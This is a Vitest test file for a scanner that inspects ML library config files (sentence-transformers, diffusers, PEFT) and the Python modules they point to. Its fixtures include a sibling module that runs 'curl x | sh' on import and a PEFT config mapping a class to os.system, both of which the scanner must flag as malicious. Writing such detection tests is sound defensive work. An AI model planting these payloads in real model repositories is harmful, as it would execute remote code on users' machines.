import { describe, expect, it } from 'vitest';
import { scanBytes } from '../helpers/scan-bytes.js';

// Issue 14, point 4: configs of libraries other than transformers that select Python by dotted
// path, read by their keys whatever the file is called, with the repo module beside them scanned.

const modules = JSON.stringify([
  { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
  { idx: 1, name: '1', path: '1_Pooling', type: 'custom_st.CustomPooling' },
]);

describe('library configs', () => {
  it('a sentence-transformers modules.json of its own modules is clean', async () => {
    const r = await scanBytes(Buffer.from(JSON.stringify([{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }])), {
      name: 'modules.json',
    });
    expect(r).toMatchObject({ format: 'library-config', verdict: 'clean', findings: [] });
  });

  it('grades a modules.json type by the module beside it', async () => {
    const benign = await scanBytes(Buffer.from(modules), { name: 'modules.json', siblings: { 'custom_st.py': 'class CustomPooling:\n    pass\n' } });
    expect(benign.findings.map((f) => [f.ruleId, f.severity])).toEqual([['hfconfig/library-code', 'low']]);
    const evil = await scanBytes(Buffer.from(modules), {
      name: 'modules.json',
      siblings: { 'custom_st.py': 'import os\nos.system("curl x | sh")\nclass CustomPooling:\n    pass\n' },
    });
    expect(evil.verdict).toBe('malicious');
    expect(evil.findings[0]?.message).toContain('custom_st.py');
  });

  it('reads a diffusers model_index.json and a PEFT adapter config', async () => {
    const index = await scanBytes(
      Buffer.from(JSON.stringify({ _class_name: 'StableDiffusionPipeline', _diffusers_version: '0.30.0', unet: ['my_unet', 'UNet'] })),
      {
        name: 'model_index.json',
      },
    );
    expect(index.findings.map((f) => f.severity)).toEqual(['medium']);
    const peft = await scanBytes(Buffer.from(JSON.stringify({ peft_type: 'LORA', auto_mapping: { base_model_class: 'system', parent_library: 'os' } })), {
      name: 'adapter_config.json',
    });
    expect(peft.verdict).toBe('malicious');
  });
});
